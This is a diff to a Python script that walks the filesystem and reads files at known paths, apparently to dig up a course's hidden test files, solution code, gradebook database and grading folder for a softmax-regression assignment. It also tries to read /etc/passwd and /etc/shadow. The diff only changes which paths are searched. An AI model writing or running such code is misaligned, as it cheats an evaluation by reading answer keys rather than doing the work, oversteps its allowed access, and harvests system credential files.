@@ -18,7 +18,7 @@ def note(where, what):
 
 def search_disk():
     # .. the course's files, by name and by content
-    places = ["/work", "/home", "/root", "/mnt", "/srv", "/opt", "/kit", "/tmp", "/var", os.getcwd(), os.path.dirname(__file__) or "."]
+    places = ["/home", "/root", "/mnt", "/srv", "/opt", "/kit", "/tmp", "/var", os.getcwd(), os.path.dirname(__file__) or "."]
     places += [p for p in sys.path if p and "site-packages" not in p and "lib/python" not in p]
     for place in places:
         for folder, folders, files in os.walk(place, onerror=lambda e: None):
@@ -39,11 +39,10 @@ def search_disk():
 
 
 def search_known_paths():
-    for path in ("/work/main/solutions/01_softmax_regression/softmax_regression.py",
-                 "/work/main/solutions/01_softmax_regression/test_softmax_regression_hidden.py",
+    for path in ("/srv/course/solutions/01_softmax_regression/test_softmax_regression_hidden.py",
                  "../../../solutions/01_softmax_regression/softmax_regression.py",
                  "test_softmax_regression.py", "test_softmax_regression_hidden.py",
-                 "/work/main/gradebook.db", "/work/main/graded", "/etc/passwd", "/etc/shadow"):
+                 "../../../gradebook.db", "../../../graded", "/etc/passwd", "/etc/shadow"):
         try:
             note(path, open(path).read())
         except OSError:
